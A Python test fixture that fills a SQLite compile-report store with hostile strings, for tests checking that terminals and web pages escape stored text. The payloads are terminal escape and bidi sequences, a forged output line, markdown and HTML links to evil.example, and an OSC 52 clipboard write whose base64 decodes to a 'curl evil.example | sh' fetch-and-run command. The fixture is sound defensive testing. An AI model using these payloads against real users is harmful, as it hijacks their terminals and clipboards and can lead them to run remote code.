"""A run store written by an attacker, for the tests that check store text is shown, never obeyed.

:func:`make_hostile_store` fills a real SQLite store through the public store API (``open_store``,
``put_run``, ``put_reports``) with runs whose every string a face shows carries terminal escape
sequences (clear the screen, set the window title, OSC 52 to write the clipboard), C1 controls,
bidi overrides and isolates, NUL, DEL, backspace, carriage returns and newlines that would forge a
line, and markdown or HTML that a page would render (images and links to an outside host, raw
``<img>``, LaTeX, ``:emoji:`` codes, Streamlit's ``:red[...]``).

The runs: ``a`` and ``b`` of one hostile name (B against A: another Inductor config, renamed and
changed kernels, a graph break, a recompile, a failure, a graph compiled in-process), each rank 0 of
a hostile job, with rank 1 beside it in the same job, and ``c``, whose run id itself is hostile.
"""

from __future__ import annotations

import hashlib
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from sandbox.record.report import CompileReport, Failure, Run, Stage
from sandbox.store import open_store

# -- what an attacker writes --------------------------------------------------------------------

CLEAR = "\x1b[2J\x1b[3J\x1b[H"  # clear the screen and the scrollback, cursor home
TITLE = "\x1b]0;owned\x07"  # set the window title
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # OSC 52: write the clipboard
C1 = "\x9b2J\x9d0;owned\x9c\x85"  # the same as C1 controls: CSI, OSC, ST, NEL
BIDI = "\u202e\u2066\u2067\u2068\u202a\u202b\u202c\u202d\u2069\u061c\u200f"  # reorder what is shown
OTHER = "\x00\x7f\x08\r\x0b\x0c\u2028\u2029\u200b\ufeff"  # NUL, DEL, BS, CR, VT, FF, separators, zero-width
FORGED = "\n\tcompiled 0 graphs, no failures\n"  # a line of its own that the CLI did not write

OUTSIDE = "evil.example"  # the host a page must never reach
MARKDOWN = (
    f"![x](http://{OUTSIDE}/img.png) [link](http://{OUTSIDE}/l) <img src='http://{OUTSIDE}/raw.png'> "
    f"http://{OUTSIDE}/bare `code` $x^2$ :red[red] :smile: :material/home: **bold** # heading"
)
TERMINAL = CLEAR + TITLE + CLIPBOARD + C1 + BIDI + OTHER + FORGED
ESCAPES = ("\x1b", "\x9b", "\x9d", "\u202e", "\u2066", "\x00", "\x07")  # any of these shown raw: a failure


def hostile(label: str) -> str:
    """``label`` wrapped in every payload: terminal escapes, then markdown and HTML."""
    return f"{label}{TERMINAL}{MARKDOWN}{TERMINAL}{label}-end"


# The fields, one hostile string each (the label names the field, to find it in what a face shows).
NAME = hostile("run-name")
TAG = hostile("tag")
HOST = hostile("host")
DEVICE = hostile("device")
TORCH = hostile("torch")
JOB = hostile("job")
EARLIER_JOB = hostile("earlier-job")
FUNCTION = hostile("fn")
FILE = "/src/" + hostile("file") + ".py"
KERNEL = hostile("kernel")
KERNEL_B = hostile("kernel-b")
CONFIG = hostile("config")
MESSAGE = hostile("failure-message")
LOG = hostile("log-line")
REASON = hostile("in-process-reason")
BREAK = hostile("graph-break-reason")
GUARD = hostile("guard")
ARGV = hostile("argv")
RUN_ID_C = "c0ffee" + TITLE + CLIPBOARD + "\u202e" + MARKDOWN  # a run id is store text too


def kernel(name: str, body: str) -> dict[str, Any]:
    source = f"void {name.encode('unicode_escape').decode()[:8]}() {{ {body} }}\n"
    return {
        "name": name,
        "kind": "cpp",
        "source": source + hostile("source") + "\n",
        "source_hash": hashlib.sha256((source + body).encode()).hexdigest(),
        "lines": 2,
        "calls": 1,
    }


def report(run: Run, index: int, **fields: Any) -> CompileReport:
    t = run.started_at + 2 * index
    values: dict[str, Any] = dict(
        run_id=run.run_id,
        compile_id=f"{index}/0",
        graph_kind="forward",
        outcome="isolated",
        graph_index=index,
        co_name=FUNCTION,
        filename=FILE,
        line=7,
        worker_pid=4242,
        started_at=t,
        duration_s=0.9,
        stages=[
            Stage("inductor_compile", t, t + 0.9),
            Stage("compile_in_worker", t + 0.1, t + 0.8, "worker", "inductor_compile"),
            Stage(hostile("stage"), t + 0.2, t + 0.7, "worker", "compile_in_worker"),
        ],
        caches={"fx_graph": {"state": "miss"}, "aot_autograd": {"state": "miss"}},
        metrics={"generated_kernel_count": 1},
        graph={"nodes": 5, "ops": 3, "inputs": 1},
        kernels=[kernel(KERNEL, "a();")],
        rank=run.rank,
        world_size=run.world_size,
        job=run.job,
    )
    values.update(fields)
    return CompileReport(**values)


def reports_a(run: Run) -> list[CompileReport]:
    return [
        report(run, 0),
        report(run, 1, compile_id="1/0", kernels=[kernel(KERNEL, "b();")]),
    ]


def reports_b(run: Run) -> list[CompileReport]:
    failure = Failure(
        kind="error",
        message=MESSAGE + "\nsecond line " + MESSAGE,
        signal=hostile("signal"),
        worker_pid=4242,
        log_tail=[LOG, LOG],
        traceback=hostile("traceback"),
    )
    return [
        report(
            run,
            0,
            kernels=[kernel(KERNEL, "a(); changed();"), kernel(KERNEL_B, "new();")],
            compile_reason={
                "graph_break": True,
                "reason": BREAK,
                "frames": [{"file": FILE, "line": 9, "function": FUNCTION}],
            },
        ),
        report(run, 1, compile_id="1/0", outcome="failed", failure=failure, fallback="eager", kernels=[]),
        report(
            run,
            2,
            compile_id="0/1",
            recompile={"frame": 0, "count": 1, "reason": "0/0: " + GUARD},
            duration_s=2.5,
        ),
        report(
            run,
            3,
            co_name=f"torch_dynamo_resume_in_{FUNCTION}_at_9",
            outcome="in_process",
            reason=REASON,
            worker_pid=None,
            kernels=[kernel(KERNEL_B, "resume();")],
        ),
    ]


@dataclass
class HostileStore:
    path: Path
    runs: dict[str, str]  # a, b, a1, b1 (rank 1 of each job), c -> run id


def make_hostile_store(path: Path) -> HostileStore:
    """The hostile store at ``path`` (a SQLite file), through the public store API."""
    now = time.time()
    common = dict(
        name=NAME,
        tags=[TAG, "ci"],
        hostname=HOST,
        device=DEVICE,
        torch=TORCH,
        triton=hostile("triton"),
        git_revision=hostile("git"),
        argv=["train.py", ARGV],
        world_size=2,
    )
    runs = {
        "a": Run(started_at=now - 3600, job=EARLIER_JOB, rank=0, inductor_config={}, **common),
        "a1": Run(started_at=now - 3590, job=EARLIER_JOB, rank=1, **common),
        "b": Run(started_at=now - 600, job=JOB, rank=0, inductor_config={CONFIG: hostile("value")}, **common),
        "b1": Run(started_at=now - 590, job=JOB, rank=1, **{**common, "hostname": "node-1"}),
        "c": Run(run_id=RUN_ID_C, started_at=now - 60, **common),
    }
    store = open_store(str(path))
    try:
        for key, run in runs.items():
            store.put_run(run)
            made = reports_b(run) if key.startswith("b") else reports_a(run)
            if key == "b1":  # rank 1 compiled one graph less, and slower: the ranks diverge
                made = [
                    report(run, r.graph_index, duration_s=9.0, kernels=[kernel(hostile("rank1-kernel"), "x();")])
                    for r in made[:-1]
                ]
            store.put_reports(made)
    finally:
        store.close()
    return HostileStore(path, {k: r.run_id for k, r in runs.items()})
